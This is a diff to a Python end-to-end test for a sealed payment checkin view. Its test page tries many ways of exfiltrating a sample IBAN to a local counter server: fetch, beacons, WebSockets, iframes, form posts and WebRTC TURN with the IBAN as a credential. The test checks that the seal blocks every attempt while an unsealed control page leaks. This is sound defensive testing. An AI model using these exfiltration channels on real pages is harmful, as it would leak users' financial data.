@@ -1,8 +1,9 @@
 """The sealed checkin view: a provider page that tries every way out towards a second loopback server
 (stylesheet, script, images, font, media, prefetch, fetch and XHR carrying the IBAN, WebSocket,
-sendBeacon, EventSource, ping, iframe, form post, module import, WebRTC) makes zero connections to it,
-while the provider's own subresources still load. A control run of the same page on an unsealed
-profile proves the page does reach the second server when nothing stops it."""
+sendBeacon, EventSource, ping, iframe, form post, module import, WebRTC from the window and from
+frames made without a navigation) makes zero connections to it, while the provider's own subresources
+still load. The same page on an unsealed profile, at the same time, proves each way out does reach
+its own counter when nothing stops it (and tells the test when the sealed page has tried them all)."""
 
 from __future__ import annotations
 
@@ -10,7 +11,7 @@ import logging
 import socket
 import socketserver
 import threading
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
@@ -25,6 +26,7 @@ from tests.e2e.helpers import run_js
 
 LOAD_MS = 20000
 IBAN = "DE89370400440532013000"
+STUN_COOKIE = bytes.fromhex("2112a442")  # in every STUN/TURN message
 
 PAGE = """<!doctype html>
 <html><head><meta charset="utf-8"><title>Provider checkin</title>
@@ -40,6 +42,7 @@ PAGE = """<!doctype html>
   #bg {{ background-image: url("{out}/bg.png"); width: 10px; height: 10px; }}
 </style>
 </head><body>
+<iframe id="parsed"></iframe>
 <h1 id="fonty">Recipient details</h1>
 <div id="bg"></div>
 <img src="/own.png" id="ownimg">
@@ -77,11 +80,34 @@ PAGE = """<!doctype html>
   navigator.sendBeacon(out + "/beacon", "iban={iban}");
   new Image().src = out + "/pixel.gif?iban={iban}";
   document.getElementById("pinger").click();
-  window.rtc = typeof RTCPeerConnection + "/" + typeof webkitRTCPeerConnection;
-  try {{
-    const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{port}"}}]}});
-    pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
-  }} catch (e) {{ /* switched off */ }}
+  // WebRTC: TURN over TCP would carry the IBAN to the counter. Tried from this window and from frames
+  // whose documents are made without a navigation (about:blank, javascript:, srcdoc, parser-made).
+  const turn = (PC) => settle(new Promise((done) => {{  // done when ICE gathering ends (or no WebRTC)
+    try {{
+      const pc = new PC({{iceServers: [{{urls: "turn:127.0.0.1:{port}?transport=tcp", username: "u",
+                                       credential: "{iban}"}}], iceTransportPolicy: "relay"}});
+      pc.onicegatheringstatechange = () => {{ if (pc.iceGatheringState === "complete") done(); }};
+      pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
+      setTimeout(done, 10000);
+    }} catch (e) {{ done(); }}
+  }}));
+  const blank = document.createElement("iframe");
+  document.body.appendChild(blank);
+  const viaIndex = window[window.length - 1];
+  window.rtc = [typeof RTCPeerConnection, typeof webkitRTCPeerConnection, typeof blank.contentWindow.RTCPeerConnection,
+                typeof viaIndex.RTCPeerConnection, typeof window[0].RTCPeerConnection].join("/");
+  turn(window.RTCPeerConnection); turn(viaIndex.RTCPeerConnection); turn(window[0].RTCPeerConnection);
+  const inner = (frame) => frame.contentWindow.eval("typeof RTCPeerConnection");
+  const js = document.createElement("iframe");
+  js.src = "javascript:'<script>parent.jsFrame = typeof RTCPeerConnection;<\\/script>'";
+  document.body.appendChild(js);
+  const doc = document.createElement("iframe");
+  doc.srcdoc = "<script>parent.srcdocFrame = typeof RTCPeerConnection;<\\/script>";
+  document.body.appendChild(doc);
+  const html = document.createElement("div");
+  html.innerHTML = "<iframe></iframe>";
+  document.body.appendChild(html);
+  window.innerFrame = inner(html.firstChild);
   settle(fetch("/own.json").then((r) => r.json()).then((j) => {{ window.ownFetch = j.ok; }}));
   document.fonts.load("16px leakfont").catch(() => null);
   Promise.all(tries).then(() => {{
@@ -181,35 +207,67 @@ class _ProviderHandler(BaseHTTPRequestHandler):
 
 
 @pytest.fixture
-def servers() -> Iterator[tuple[Provider, Counter]]:
-    counter = Counter()
-    provider = Provider(counter.port)
-    threads = [threading.Thread(target=s.serve_forever, daemon=True) for s in (counter, provider)]
-    for thread in threads:
-        thread.start()
-    yield provider, counter
-    for server in (provider, counter):
+def servers() -> Iterator[Callable[[], tuple[Provider, Counter]]]:
+    """Makes (provider, counter) pairs on fresh loopback ports; all stopped afterwards."""
+    running: list[socketserver.BaseServer] = []
+
+    def make() -> tuple[Provider, Counter]:
+        counter = Counter()
+        provider = Provider(counter.port)
+        for server in (counter, provider):
+            threading.Thread(target=server.serve_forever, daemon=True).start()
+            running.append(server)
+        return provider, counter
+
+    yield make
+    for server in running:
         server.shutdown()
         server.server_close()
 
 
+@pytest.fixture
+def unsealed(servers: Callable[[], tuple[Provider, Counter]]) -> Iterator[tuple[QWebEnginePage, Counter, str]]:
+    """The control: the same page on a plain profile (no interceptor, WebRTC on), towards its own counter."""
+    provider, counter = servers()
+    profile = QWebEngineProfile()
+    page = QWebEnginePage(profile)
+    yield page, counter, f"{provider.base_url}/checkin/pay_seal"
+    page.triggerAction(QWebEnginePage.WebAction.Stop)
+    shiboken6.delete(page)  # the page before its profile, as QtWebEngine requires
+    profile.deleteLater()
+
+
 def test_the_sealed_page_reaches_only_its_provider(
-    qtbot: Any, servers: tuple[Provider, Counter], caplog: pytest.LogCaptureFixture
+    qtbot: Any,
+    servers: Callable[[], tuple[Provider, Counter]],
+    unsealed: tuple[QWebEnginePage, Counter, str],
+    caplog: pytest.LogCaptureFixture,
 ) -> None:
-    provider, counter = servers
+    provider, counter = servers()
+    control, control_counter, control_url = unsealed
     caplog.set_level(logging.WARNING, logger="payout_desk.ui.checkin_guard")
     dialog = CheckinDialog(f"{provider.base_url}/checkin/pay_seal", provider_base_url=provider.base_url,
                            payment_id="pay_seal")  # fmt: skip
     qtbot.addWidget(dialog)
     interceptor = dialog.interceptor
     assert isinstance(interceptor, OriginInterceptor)
-    with qtbot.waitSignal(dialog.page.loadFinished, timeout=LOAD_MS):
+    with qtbot.waitSignals([dialog.page.loadFinished, control.loadFinished], timeout=LOAD_MS):
         dialog.show()
+        control.load(control_url)  # the same page at the same time, unsealed
     qtbot.waitUntil(lambda: run_js(qtbot, dialog.page, "window.tried === true") is True, timeout=LOAD_MS)
     # The form posts to the other origin last: refused as a navigation, the page stays.
     qtbot.waitUntil(lambda: dialog.page.refusals >= 1, timeout=LOAD_MS)
 
-    # Every way out was seen and blocked by the interceptor before it left the machine.
+    # The control proves the page's ways out work when nothing stops them, WebRTC's TURN over TCP
+    # included (the slowest); by then the sealed page has tried all of them too.
+    qtbot.waitUntil(lambda: STUN_COOKIE in b"".join(control_counter.received), timeout=LOAD_MS)
+    qtbot.waitUntil(lambda: control_counter.hits() >= 8, timeout=LOAD_MS)
+    leaked = b"".join(control_counter.received)
+    assert IBAN.encode() in leaked
+    assert b"/beacon" in leaked
+    assert b"/fetch" in leaked
+
+    # Every way out of the sealed page was seen and blocked before it left the machine: zero hits.
     qtbot.waitUntil(lambda: interceptor.refused >= 12, timeout=LOAD_MS)
     assert counter.hits() == 0, counter.received
     assert set(interceptor.refused_origins) >= {f"http://127.0.0.1:{counter.port}",
@@ -223,30 +281,16 @@ def test_the_sealed_page_reaches_only_its_provider(
     assert {"/own.css", "/own.png", "/own.json"} <= set(provider.paths)
     assert run_js(qtbot, dialog.page, "document.getElementById('ownimg').naturalWidth") == 1
     assert run_js(qtbot, dialog.page, "window.ownFetch") is True
-    assert run_js(qtbot, dialog.page, "window.rtc") == "undefined/undefined"
+    # WebRTC is gone from the window and from frames made without a navigation.
+    assert run_js(qtbot, dialog.page, "window.rtc") == "/".join(["undefined"] * 5)
+    assert run_js(qtbot, dialog.page, "window.innerFrame") == "undefined"
+    frames = "[window.jsFrame, window.srcdocFrame].join('/')"
+    qtbot.waitUntil(lambda: run_js(qtbot, dialog.page, frames) != "/", timeout=LOAD_MS)
+    assert run_js(qtbot, dialog.page, frames) == "undefined/undefined"
+    assert run_js(qtbot, control, "typeof RTCPeerConnection") == "function"
     shown = dialog.page.url()
     assert (shown.port(), shown.path()) == (QUrl(provider.base_url).port(), "/checkin/pay_seal")  # it stayed
 
     with qtbot.waitSignal(dialog.closedEarly, timeout=2000):
         dialog.reject()
     assert counter.hits() == 0
-
-
-def test_control_the_same_page_unsealed_does_reach_the_second_server(
-    qtbot: Any, servers: tuple[Provider, Counter]
-) -> None:
-    """Without the seal the page's requests do arrive: the zero above is the seal's doing."""
-    provider, counter = servers
-    profile = QWebEngineProfile()
-    page = QWebEnginePage(profile)
-    try:
-        with qtbot.waitSignal(page.loadFinished, timeout=LOAD_MS):
-            page.load(f"{provider.base_url}/checkin/pay_seal")
-        qtbot.waitUntil(lambda: counter.hits() >= 8, timeout=LOAD_MS)
-        received = b"".join(counter.received)
-        assert IBAN.encode() in received
-        assert b"/beacon" in received or b"/fetch" in received
-    finally:
-        page.triggerAction(QWebEnginePage.WebAction.Stop)
-        shiboken6.delete(page)  # the page before its profile, as QtWebEngine requires
-        profile.deleteLater()
